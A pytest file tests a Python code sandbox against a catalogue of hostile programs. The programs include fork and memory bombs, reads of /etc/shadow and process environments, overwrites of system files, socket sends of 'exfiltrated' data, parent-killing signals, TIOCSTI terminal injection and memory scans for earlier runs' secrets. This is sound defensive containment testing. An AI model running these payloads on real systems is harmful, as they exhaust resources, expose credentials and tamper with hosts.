"""The threat catalogue (docs/sandbox.md, items 1-13): each hostile program runs,
and each check is made from *outside* the sandbox: host files, a loopback listener, the
host's /proc, the parent process, and the next run. Items 14-19 (forged passes) are in
tests/test_code_env.py, where a grader exists to be fooled."""

from __future__ import annotations

import hashlib
import os
import socket
import sys

import pytest

from assay.sandbox import Sandbox, SandboxError


@pytest.fixture(scope="module")
def box():
    try:
        sandbox = Sandbox(workers=2, processes=32)
        sandbox.start()
    except SandboxError as exc:
        pytest.skip(f"local sandbox unavailable: {exc}")
    yield sandbox
    sandbox.close()


def _servers(box) -> list[int]:
    return [jail[0] for jail in box.jail_processes()]


def assert_contained(box, servers_before: list[int]) -> None:
    """Nothing but the fork servers is alive in the jails; the same servers still serve."""
    jails = box.jail_processes()
    assert [jail[1:] for jail in jails] == [[] for _ in jails], "a process survived its run"
    assert [jail[0] for jail in jails] == servers_before, "a fork server was replaced"
    assert os.getppid() > 1  # we (the parent) are alive, obviously; and so is the next run:
    assert box.run("print('next')").stdout == "next\n"


# -- resource abuse ------------------------------------------------------------------


def test_1_fork_bomb_is_bounded_and_fully_removed(box):
    servers = _servers(box)
    code = (
        "import os, time\n"
        "made = 0\n"
        "for _ in range(10000):\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        break\n"
        "    if pid == 0:\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "    made += 1\n"
        "print(made, flush=True)\n"
        "while True:\n"
        "    try:\n"
        "        os.fork()\n"
        "    except OSError:\n"
        "        pass\n"
    )
    result = box.run(code, timeout=1.5)
    assert result.status == "timeout"
    assert int(result.stdout) <= 32  # RLIMIT_NPROC applies: the jail is not root
    assert_contained(box, servers)


def test_1_posix_fork_loop_is_bounded(box):
    result = box.run("import posix\nn = 0\ntry:\n    while True:\n        if posix.fork() == 0:\n            posix._exit(0)\n        n += 1\nexcept OSError:\n    print('stopped')", timeout=2)
    assert result.status in ("ok", "timeout")


@pytest.mark.parametrize(
    "code",
    ["x = 'a' * (10 ** 10)", "x = [0] * (10 ** 9)", "x = bytearray(1 << 33)", "x = 9 ** 9 ** 9"],
    ids=["string", "list", "bytearray", "power-tower"],
)
def test_2_memory_bombs_stop_at_the_limit(box, code):
    servers = _servers(box)
    result = box.run(code, timeout=1.5, memory_mb=256)
    assert result.status in ("memory", "timeout"), result
    assert_contained(box, servers)


@pytest.mark.parametrize("code", ["while True: pass", "import time; time.sleep(10 ** 9)"], ids=["loop", "sleep"])
def test_3_endless_programs_are_killed_at_the_deadline(box, code):
    result = box.run(code, timeout=1)
    assert result.status == "timeout" and 1 <= result.wall_time < 2


def test_4_ignoring_signals_and_catching_everything_does_not_help(box):
    code = (
        "import signal, time\n"
        "for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n"
        "    try:\n"
        "        while True:\n"
        "            pass\n"
        "    except BaseException:\n"
        "        pass\n"
    )
    result = box.run(code, timeout=1)
    assert result.status == "timeout" and result.wall_time < 2


def test_5_threads_orphans_daemons_and_zombies_do_not_outlive_the_run(box):
    servers = _servers(box)
    code = (
        "import os, threading, time\n"
        "threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
        "for _ in range(3):\n"
        "    if os.fork() == 0:\n"
        "        os._exit(0)  # a zombie: never reaped\n"
        "if os.fork() == 0:  # a double-forked daemon in its own session, holding stdout\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(60)\n"
        "    os._exit(0)\n"
        "print('done', flush=True)\n"
    )
    result = box.run(code, timeout=5)
    assert result.status == "ok" and result.stdout == "done\n"
    assert result.wall_time < 1.0  # the orphan holding stdout does not make the run wait
    assert_contained(box, servers)


def test_6_output_floods_are_capped(box):
    flood = box.run("while True: print('x' * 10000)", timeout=1)
    assert flood.status == "timeout" and flood.stdout_truncated
    assert len(flood.stdout) == box.limits.output_bytes
    line = box.run("import sys\nsys.stdout.write('y' * (50 << 20))\nsys.stderr.write('z' * (5 << 20))", timeout=5)
    assert line.status == "ok" and line.stdout_truncated and line.stderr_truncated
    assert len(line.stdout) == len(line.stderr) == box.limits.output_bytes


def test_7_filling_disk_fds_and_shm_fails_inside_and_is_cleaned(box, tmp_path):
    servers = _servers(box)
    code = (
        "import os\n"
        "out = []\n"
        "for path in ('/work/big', '/tmp/big', '/dev/shm/big'):\n"
        "    try:\n"
        "        with open(path, 'wb') as f:\n"
        "            for _ in range(4096):\n"
        "                f.write(b'0' * (1 << 20))\n"
        "    except OSError as exc:\n"
        "        out.append(exc.errno)\n"
        "fds = []\n"
        "try:\n"
        "    while True:\n"
        "        fds.append(os.open('/dev/null', os.O_RDONLY))\n"
        "except OSError as exc:\n"
        "    out.append(exc.errno)\n"
        "print(out, len(fds))\n"
    )
    result = box.run(code, timeout=5)
    codes, fds = result.stdout.rsplit(" ", 1)
    import errno

    assert eval(codes) and set(eval(codes)) <= {errno.EFBIG, errno.ENOSPC, errno.EMFILE}
    assert int(fds) < box.limits.open_files
    after = box.run_many([{"code": "import os; print(os.listdir('/work'), os.listdir('/tmp'), os.listdir('/dev/shm'))"}] * 2)
    assert [r.stdout for r in after] == ["[] [] []\n"] * 2
    assert_contained(box, servers)


@pytest.mark.parametrize(
    "code",
    [
        "import ctypes; ctypes.string_at(0)",
        # C-level recursion (3.11 runs Python-to-Python calls without the C stack)
        "import sys\nsys.setrecursionlimit(10 ** 8)\nx = []\nfor _ in range(10 ** 6):\n    x = [x]\nrepr(x)",
    ],
    ids=["ctypes-segfault", "deep-recursion"],
)
def test_8_crashes_are_reported_not_propagated(box, code):
    servers = _servers(box)
    result = box.run(code, timeout=3)
    assert result.status == "killed" and result.exit_code == -11, result
    assert_contained(box, servers)


# -- escapes -------------------------------------------------------------------------


def test_9_host_files_and_secrets_are_invisible(box, tmp_path, monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-HOST-FILE")
    monkeypatch.setenv("ASSAY_TEST_SECRET", "TOP-SECRET-ENV")
    code = (
        "import os\n"
        f"for path in ('/etc/shadow', '/etc/passwd', '/root', {str(secret)!r}, '/home', '/proc/1/environ'):\n"
        "    try:\n"
        "        print(path, open(path).read()[:100] if os.path.isfile(path) else os.listdir(path))\n"
        "    except OSError as exc:\n"
        "        print(path, type(exc).__name__)\n"
        "print(dict(os.environ))\n"
    )
    result = box.run(code)
    assert result.status == "ok"
    assert "TOP-SECRET" not in result.stdout + result.stderr
    assert "root:" not in result.stdout


def test_10_writes_outside_the_work_directory_fail(box, tmp_path):
    host_file = tmp_path / "host.txt"
    host_file.write_text("original")
    host_file.chmod(0o666)
    python_lib = os.path.realpath("/usr/lib/python3.11/os.py")
    site_file = os.path.join(os.path.dirname(os.__file__), "os.py")
    targets = [str(host_file), python_lib, "/usr/bin/python3", site_file, "/etc/passwd", "/newfile", "/usr/evil"]
    before = {path: _digest(path) for path in targets}
    code = (
        "import os\n"
        f"for path in {targets!r}:\n"
        "    try:\n"
        "        with open(path, 'w') as f:\n"
        "            f.write('pwned')\n"
        "        print('WROTE', path)\n"
        "    except OSError as exc:\n"
        "        print('blocked', path, exc.errno)\n"
    )
    result = box.run(code)
    assert "WROTE" not in result.stdout, result.stdout
    assert {path: _digest(path) for path in targets} == before
    assert host_file.read_text() == "original"


def _digest(path: str) -> str | None:
    try:
        with open(path, "rb") as handle:
            return hashlib.sha256(handle.read()).hexdigest()
    except OSError:
        return None


def test_11_no_network_even_to_loopback(box):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    code = (
        "import socket\n"
        f"for host in ('127.0.0.1', 'localhost', '10.0.0.1', '8.8.8.8'):\n"
        "    try:\n"
        f"        socket.create_connection((host, {port}), timeout=0.5).sendall(b'exfiltrated')\n"
        "        print('CONNECTED', host)\n"
        "    except OSError as exc:\n"
        "        print('refused', host, type(exc).__name__)\n"
    )
    result = box.run(code, timeout=5)
    assert "CONNECTED" not in result.stdout
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody ever connected
    listener.close()


def test_12_killing_the_parent_and_siblings_fails(box):
    servers = _servers(box)
    code = (
        "import os, signal\n"
        "for target in (os.getppid(), 1, -1, 0):\n"
        "    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):\n"
        "        try:\n"
        "            os.kill(target, sig) if target else os.killpg(0, sig)\n"
        "        except OSError as exc:\n"
        "            pass\n"
    )
    results = box.run_many([{"code": code, "timeout": 2}] * 4)
    assert all(r.status in ("ok", "killed") for r in results), results
    assert_contained(box, servers)
    assert os.getpid() > 0 and sys.executable  # this process, the sandbox's parent, lives on


def test_13_no_terminal_to_inject_into(box):
    code = (
        "import fcntl, termios\n"
        "for path in ('/dev/tty', '/dev/stdin', '/proc/self/fd/0'):\n"
        "    try:\n"
        "        with open(path, 'rb') as f:\n"
        "            fcntl.ioctl(f, termios.TIOCSTI, b'x')\n"
        "        print('INJECTED', path)\n"
        "    except OSError as exc:\n"
        "        print('blocked', path, exc.errno)\n"
        "import os\n"
        "print('sid', os.getsid(0) == os.getpid())\n"
    )
    result = box.run(code)
    assert "INJECTED" not in result.stdout and "sid True" in result.stdout


def test_namespace_and_ptrace_syscalls_are_refused(box):
    code = (
        "import ctypes, errno\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "results = []\n"
        "for name, args in [('unshare', (0x10000000,)), ('unshare', (0x40000000,)),\n"
        "                   ('ptrace', (16, 1, 0, 0)), ('mount', (b'none', b'/work', b'tmpfs', 0, 0))]:\n"
        "    rc = getattr(libc, name)(*args)\n"
        "    results.append((name, rc, ctypes.get_errno()))\n"
        "print(results)\n"
    )
    result = box.run(code)
    import errno

    for name, rc, err in eval(result.stdout):
        assert rc == -1 and err == errno.EPERM, name


def test_a_run_cannot_find_an_earlier_runs_stdin_in_memory():
    """The fork server never holds stdin (a grader's expected values) in its own memory."""
    # The needle itself is in the scanner's memory once or twice; the earlier stdin
    # held it 1000 times.
    scan = (
        "needle = b'-'.join([b'EARLIER', b'RUN', b'SECRET'])  # not folded into one constant\n"
        "count = 0\n"
        "with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:\n"
        "    for line in maps:\n"
        "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if 'r' not in line.split()[1] or end - start > 1 << 30:\n"
        "            continue\n"
        "        try:\n"
        "            mem.seek(start)\n"
        "            count += mem.read(end - start).count(needle)\n"
        "        except (OSError, ValueError, OverflowError):\n"
        "            pass\n"
        "print(count)\n"
    )
    with Sandbox(workers=1) as one:
        control = one.run(scan + "import sys; sys.stdin.read()\n" + scan, stdin="EARLIER-RUN-SECRET " * 1000)
        counts = [int(n) for n in control.stdout.split()]
        assert counts[1] >= counts[0] + 1000  # the scanner does see stdin it has read
        assert int(one.run(scan, timeout=5).stdout) <= 2


def test_dev_is_read_only_and_xattrs_cannot_carry_data_between_runs(box):
    result = box.run(
        "import os\n"
        "for path in ('/dev/planted', '/dev/null2'):\n"
        "    try:\n"
        "        open(path, 'w').write('x'); print('wrote', path)\n"
        "    except OSError as exc:\n"
        "        print('refused', exc.errno)\n"
        "for path in ('/work', '/tmp'):\n"
        "    try:\n"
        "        os.setxattr(path, 'user.note', b'secret'); print('xattr set', path)\n"
        "    except OSError as exc:\n"
        "        print('xattr refused', exc.errno)\n"
    )
    assert "wrote" not in result.stdout and "xattr set" not in result.stdout, result.stdout
    assert result.stdout.count("refused") == 4
    later = box.run("import os; print(os.path.exists('/dev/planted'))")
    assert later.stdout == "False\n"
